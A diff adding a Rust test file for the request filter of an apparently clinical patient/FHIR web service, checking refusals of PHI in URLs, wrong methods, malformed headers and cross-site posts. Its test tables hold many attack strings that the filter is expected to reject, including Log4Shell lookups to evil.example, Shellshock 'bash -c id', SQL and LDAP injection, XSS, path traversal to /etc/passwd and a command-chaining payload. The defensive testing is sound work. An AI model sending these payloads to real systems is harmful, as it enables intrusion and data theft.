@@ -1,0 +1,262 @@
+use proptest::prelude::*;
+
+use super::*;
+
+fn refused(line: &str, headers: &[(&str, &str)]) -> (u16, Reason) {
+    let problem = answer(line, headers).expect_err(line);
+    (problem.status.as_u16(), problem.reason)
+}
+
+/// Status, reason, method, address, and the type of a body.
+const REFUSED: &str = "
+404 unknown_route GET /admin
+404 unknown_route GET /fhir/Claim/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d
+404 unknown_route GET /fhir/Patient/M-12345
+404 unknown_route GET /patients/Archer
+400 phi_in_url GET /patients/123-45-6789
+400 phi_in_url GET /fhir/Patient/999264821
+405 method GET /fhir
+405 method PUT /fhir/Patient/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d application/json
+405 method POST /patients application/x-www-form-urlencoded
+405 method CONNECT /
+405 method TRACE /
+405 method OPTIONS /
+405 method PROPFIND /
+405 method get /
+415 media_type POST /fhir application/fhir+xml
+415 media_type POST /fhir/Patient/_search application/json
+415 media_type POST /api/v1/tokens application/x-www-form-urlencoded
+400 media_type GET /patients application/x-www-form-urlencoded
+400 query GET /patients?page=0
+400 query GET /patients?sort=ssn
+400 query GET /patients?page=2&page=3
+400 query GET /patients?page=2&page
+400 query GET /patients?page=2&&sort=family
+400 query GET /patients?%70age=2
+400 phi_in_url GET /patients?after=1970-01-01
+400 phi_in_url GET /patients?page=123-45-6789
+400 phi_in_url GET /patients?x=ann%40example.org
+400 phi_in_url GET /patients?q=Archer
+400 phi_in_url GET /patients/search?q=Archer
+400 phi_in_url GET /fhir/Patient?family=Archer
+400 phi_in_url GET /fhir/Patient?FAMILY:exact=Archer
+400 phi_in_url GET /fhir/Patient?_format=json&birthdate=1970-01-01
+400 phi_in_url POST /fhir/Patient/_search?family=Archer application/x-www-form-urlencoded
+400 phi_in_url GET /fhir?q=x
+400 query GET /fhir/Patient?_count=10;family=Archer
+400 injection GET /?a=%3Cscript%3Ealert(1)%3C/script%3E
+400 injection GET /?a=1%27%20OR%20%271%27=%271
+400 injection GET /?x=$%7bjndi:ldap://a.b/c%7D
+400 injection GET /?file=..%252f..%252fetc/passwd
+";
+
+#[test]
+fn what_is_not_described_is_refused_by_what_is_wrong_with_it() {
+    for line in REFUSED.trim().lines() {
+        let mut words = line.split(' ');
+        let mut next = || words.next().unwrap();
+        let (status, reason) = (next(), next());
+        let asked = format!("{} {}", next(), next());
+        let body: Vec<_> = words.map(|kind| ("content-type", kind)).collect();
+        let (told, by) = refused(&asked, &body);
+        assert_eq!(
+            (told.to_string().as_str(), by.name()),
+            (status, reason),
+            "{line}"
+        );
+    }
+}
+
+#[test]
+fn a_refusal_names_the_methods_there_are_and_the_way_to_search() {
+    let problem = answer("POST /patients", &[]).unwrap_err();
+    assert_eq!(problem.allow, Some("GET, HEAD"));
+    let problem = answer("GET /fhir/Patient?family=Archer", &[]).unwrap_err();
+    assert!(problem.detail.contains("_search"));
+}
+
+/// Reason, name and value of a header.
+const HEADERS: &str = "
+credentials authorization Basic YTpi
+credentials authorization Bearer
+credentials authorization Bearer a b
+credentials authorization Bearer a'--
+malformed accept text/html'
+injection accept <script>alert(1)</script>
+malformed accept-language de (x)
+injection accept-encoding ${jndi:ldap://x}
+malformed if-none-match 3
+malformed if-none-match W/\"3\" \"4\"
+injection if-match \"a' or '1'='1\"
+injection if-modified-since {{7*7}}
+malformed origin https://clinic.example/?a=<b>
+malformed sec-fetch-mode CORS!
+injection prefer return=`id`
+malformed upgrade websocket
+malformed expect 200-ok
+malformed x_forwarded_for 6.6.6.6
+media_type content-encoding gzip
+malformed user-agent caf\u{e9}
+injection user-agent () { :; }; /bin/bash -c id
+injection user-agent ${jndi:ldap://evil.example/a}
+injection user-agent %24%7Bjndi:dns://evil.example%7D
+injection user-agent 1' UNION SELECT password FROM people --
+injection user-agent <img src=x onerror=alert(1)>
+injection user-agent ../../../../etc/passwd
+injection user-agent a%0d%0aset-cookie: b
+injection user-agent <?php system('id'); ?>
+injection user-agent {{constructor.constructor('return 1')()}}
+injection user-agent *)(uid=*))(|(uid=*
+injection user-agent ; cat /etc/hosts
+";
+
+#[test]
+fn a_header_that_the_app_sees_has_its_form() {
+    for line in HEADERS.trim().lines() {
+        let (reason, header) = line.split_once(' ').unwrap();
+        let header = header.split_once(' ').unwrap();
+        // The second time it must not be taken for one that is known.
+        for _ in 0..2 {
+            assert_eq!(
+                refused("GET /patients", &[header]).1.name(),
+                reason,
+                "{line}"
+            );
+        }
+    }
+    let long = "x".repeat(1025);
+    assert_eq!(refused("GET /patients", &[("user-agent", &long)]).0, 400);
+}
+
+#[test]
+fn what_another_site_sends_changes_nothing() {
+    let form = ("content-type", "application/x-www-form-urlencoded");
+    let cookie = ("cookie", "__Host-session=abc");
+    for headers in [
+        [form, cookie, ("origin", "https://evil.example")].as_slice(),
+        &[form, cookie, ("origin", "null")],
+        &[form, cookie, ("sec-fetch-site", "cross-site")],
+        &[
+            form,
+            cookie,
+            ("sec-fetch-site", "same-site"),
+            ("origin", "https://clinic.example"),
+        ],
+        &[form, cookie],
+    ] {
+        assert_eq!(
+            refused("POST /patients/search", headers),
+            (403, Reason::OtherSite)
+        );
+    }
+    for headers in [
+        [form, cookie, ("origin", "https://clinic.example")].as_slice(),
+        &[
+            form,
+            cookie,
+            ("origin", "null"),
+            ("sec-fetch-site", "same-origin"),
+        ],
+        &[form, ("authorization", "Bearer abc"), cookie],
+        &[form],
+    ] {
+        assert!(
+            answer("POST /patients/search", headers).is_ok(),
+            "{headers:?}"
+        );
+    }
+    assert!(answer("POST /sign-in", &[form, cookie]).is_ok());
+}
+
+#[test]
+fn there_is_one_host_and_it_is_ours() {
+    let of = |change: fn(&mut Parts)| {
+        let mut head = head("GET /", &[]);
+        change(&mut head);
+        check(&head, false, &origin(), &surface()).map(|route| route.kind)
+    };
+    let two = |head: &mut Parts| {
+        head.headers
+            .append(HOST, HeaderValue::from_static("clinic.example"));
+    };
+    let none = |head: &mut Parts| {
+        head.headers.remove(HOST);
+    };
+    let differing = |head: &mut Parts| head.uri = "https://other.example/".parse().unwrap();
+    let no_tls = |head: &mut Parts| head.uri = "http://clinic.example/".parse().unwrap();
+    let no_scheme = |head: &mut Parts| head.version = Version::HTTP_2;
+    for change in [two, none, differing, no_tls, no_scheme] {
+        assert_eq!(of(change).unwrap_err().status, StatusCode::BAD_REQUEST);
+    }
+    for host in ["other.example", "localhost:8443", "clinic.example:8443"] {
+        let mut head = head("GET /", &[]);
+        head.headers.insert(HOST, HeaderValue::from_static(host));
+        let refused = check(&head, false, &origin(), &surface()).unwrap_err();
+        assert_eq!(
+            (refused.status.as_u16(), refused.reason),
+            (421, Reason::Host)
+        );
+    }
+    let health = |head: &mut Parts| {
+        head.uri = "/healthz".parse().unwrap();
+        head.headers
+            .insert(HOST, HeaderValue::from_static("10.0.0.7"));
+    };
+    assert_eq!(of(health).unwrap(), Kind::Health);
+}
+
+#[test]
+fn http_1_0_is_not_spoken() {
+    let mut old = head("GET /", &[]);
+    old.version = Version::HTTP_10;
+    assert_eq!(
+        check(&old, false, &origin(), &surface())
+            .unwrap_err()
+            .status
+            .as_u16(),
+        505
+    );
+}
+
+/// What people search by, and what databases and browsers run, put together in any way.
+fn hostile() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        Just("' OR 1=1 --".to_owned()),
+        Just("<script>".to_owned()),
+        Just("../".to_owned()),
+        Just("%00".to_owned()),
+        Just("${jndi:ldap://x}".to_owned()),
+        Just("123-45-6789".to_owned()),
+        Just("1970-01-31".to_owned()),
+        "[ -~]{1,8}",
+    ];
+    prop::collection::vec(piece, 1..4).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    /// Whatever is in a query: if it passes, each of its parameters is described, comes once, and
+    /// has a value of a closed set.
+    #[test]
+    fn nothing_passes_in_a_query_but_what_is_described(value in hostile(), name in "[a-z_]{1,8}") {
+        let encoded = value.bytes().fold(String::new(), |all, byte| format!("{all}%{byte:02x}"));
+        for query in [format!("{name}={encoded}"), format!("page={encoded}"), encoded.clone()] {
+            let passed = answer(&format!("GET /patients?{query}"), &[]).is_ok();
+            let page = value.parse::<u32>().is_ok_and(|page| (1..=100_000).contains(&page));
+            let plain = !value.starts_with(['0', '+']);
+            prop_assert!(!passed || (page && plain && query.contains("page=")), "{query}");
+        }
+    }
+
+    /// A path that leads somewhere holds no byte that a client chose freely.
+    #[test]
+    fn a_path_leads_nowhere_by_chance(segment in "[A-Za-z0-9._~$-]{1,40}") {
+        for path in ["", "patients/", "fhir/", "fhir/Patient/", "assets/", "api/v1/"] {
+            let answer = answer(&format!("GET /{path}{segment}"), &[]);
+            if let Ok(template) = answer {
+                let known = ["/people", "/audit", "/patients", "/sign-in", "/fhir/metadata",
+                    "/fhir/{type}", "/api/v1/people", "/api/v1/session"];
+                prop_assert!(known.contains(&template), "{segment}");
+            }
+        }
+    }
+}
